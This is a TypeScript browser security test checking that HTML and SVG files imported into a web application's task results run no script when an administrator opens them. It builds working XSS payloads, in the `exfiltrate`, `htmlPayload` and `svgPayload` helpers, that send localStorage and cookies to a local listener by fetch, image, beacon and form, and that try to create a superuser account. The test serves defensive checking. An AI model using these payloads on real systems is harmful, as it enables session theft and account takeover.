// A task's results are files that any user can bring (an imported zip holds whatever its maker put in it). An
// HTML or SVG result opened by an administrator, from a link carrying the attacker's own token, must run no
// script: a script on the application's origin could read what the page keeps and send it anywhere, or act as
// the administrator with the session cookie that the browser sends along.
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { type TestService, startService } from '../service/helpers.ts';
import { TaskStatus, finished, waitForTask } from '../service/taskhelpers.ts';
import { launchBrowser, openPage } from './browser.ts';

/** Every way a page can send what it read (fetch, an image, a beacon and a form), and a try at making the
 * attacker a superuser with the administrator's session. */
const exfiltrate = (listener: string) => `
  fetch('/api/admin/users/', { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username: 'pwned', password: 'pwned-password', is_active: true, is_staff: true, is_superuser: true }) });
  const stolen = encodeURIComponent(JSON.stringify(localStorage) + document.cookie);
  fetch('${listener}/fetch?t=' + stolen, { mode: 'no-cors' }).catch(() => {});
  new Image().src = '${listener}/image?t=' + stolen;
  navigator.sendBeacon('${listener}/beacon?t=' + stolen);
  const form = document.createElement('form');
  form.method = 'POST'; form.action = '${listener}/form?t=' + stolen;
  document.documentElement.appendChild(form); form.submit();`;

const htmlPayload = (listener: string) => `<!doctype html><html><body><h1>Survey notes</h1>
<script>${exfiltrate(listener)}</script><img src="x" onerror="${exfiltrate(listener).replace(/"/g, '&quot;').replace(/\n/g, ' ')}"></body></html>`;

const svgPayload = (listener: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${exfiltrate(listener)
  .replace(/"/g, '&quot;')
  .replace(/\n/g, ' ')}"><script>${exfiltrate(listener).replace(/&/g, '&amp;').replace(/</g, '&lt;')}</script></svg>`;

async function zipOf(files: Record<string, string>): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, text] of Object.entries(files)) zip.addBuffer(Buffer.from(text), name);
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

describe('results opened in the browser', () => {
  let t: TestService;
  let browser: Browser;
  let listener: Server;
  let listenerUrl: string;
  const received: string[] = [];

  beforeAll(async () => {
    listener = createServer((request: IncomingMessage, response) => {
      received.push(`${request.method} ${request.url}`);
      response.setHeader('access-control-allow-origin', '*');
      response.end(request.url === '/payload.html' ? htmlPayload(listenerUrl) : '');
    });
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    [t, browser] = await Promise.all([startService('sqlite'), launchBrowser()]);
  });

  afterAll(async () => {
    await browser?.close();
    await t?.close();
    listener?.close();
  });

  it('runs no script of an imported HTML or SVG file for an administrator who opens it', async () => {
    // The payload works in this browser: opened from a server of its own, it reaches the listener.
    const control = await openPage(browser, 'desktop');
    await control.page.goto(`${listenerUrl}/payload.html`);
    await expect.poll(() => received.filter((line) => line.includes('?t=')).length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect(received.find((line) => line.includes('?t='))).not.toContain('aeromap');
    await control.page.context().close();
    received.length = 0;

    const attacker = (await t.createUser('mallory')).client;
    const project = (await attacker.post('/api/projects/', { name: 'Innocent survey' })).body.id;
    const zip = await zipOf({
      'odm_report/notes.html': htmlPayload(listenerUrl),
      'odm_report/logo.svg': svgPayload(listenerUrl),
      'odm_orthophoto/odm_orthophoto.tif': 'not really a GeoTIFF',
    });
    const imported = await fetch(new URL(`/api/projects/${project}/tasks/import`, t.url), {
      method: 'POST',
      headers: { authorization: `JWT ${attacker.token}`, 'content-type': 'application/zip' },
      body: new Uint8Array(zip),
    });
    expect(imported.status).toBe(201);
    const taskId = ((await imported.json()) as { id: number }).id;
    const task = await waitForTask(attacker, `/api/projects/${project}/tasks/${taskId}/`, finished);
    expect(task.status).toBe(TaskStatus.COMPLETED);

    const admin = await openPage(browser, 'desktop', t.admin.token);
    await admin.page.goto(`${t.url}/`);
    await admin.page.getByRole('heading', { name: 'Projects' }).waitFor();
    for (const file of ['odm_report/notes.html', 'odm_report/logo.svg']) {
      const url = `${t.url}/api/projects/${project}/tasks/${taskId}/assets/${file}?jwt=${attacker.token}`;
      const headers = (await fetch(url)).headers;
      expect(headers.get('content-disposition')).toMatch(/^attachment/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('content-security-policy')).toContain('sandbox');
      // Opened as a link and inside a frame of the application's origin.
      const download = admin.page.waitForEvent('download', { timeout: 5_000 }).catch(() => null);
      await admin.page.goto(url).catch(() => undefined);
      await download;
      await admin.page.goto(`${t.url}/`);
      await admin.page.setContent(`<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`);
      await admin.page.waitForTimeout(1_500);
    }
    expect(received).toEqual([]);
    const users = (await t.admin.get('/api/admin/users/')).body;
    expect(JSON.stringify(users)).not.toContain('pwned');
  });

  it('gives the application and its API docs policies that load scripts from the origin alone, unframed', async () => {
    const page = await fetch(`${t.url}/`);
    const policy = page.headers.get('content-security-policy') ?? '';
    const scripts = policy.split(';').find((directive) => directive.trim().startsWith('script-src'));
    expect(scripts?.trim().split(/\s+/).slice(1)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(policy).toContain("frame-ancestors 'none'");
    const api = await fetch(`${t.url}/api/projects/`, { headers: { authorization: `JWT ${t.admin.token}` } });
    expect(api.headers.get('x-content-type-options')).toBe('nosniff');
    expect(api.headers.get('x-frame-options')).toBe('DENY');

    // The API's docs page keeps a policy of its own that its scripts and styles fit.
    const docs = await openPage(browser, 'desktop');
    const response = await docs.page.goto(`${t.url}/api/docs/`);
    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
    await docs.page.getByText('/api/token-auth/').first().waitFor({ timeout: 20_000 });
    await docs.page.context().close();
    expect(docs.errors).toEqual([]);
  });
});
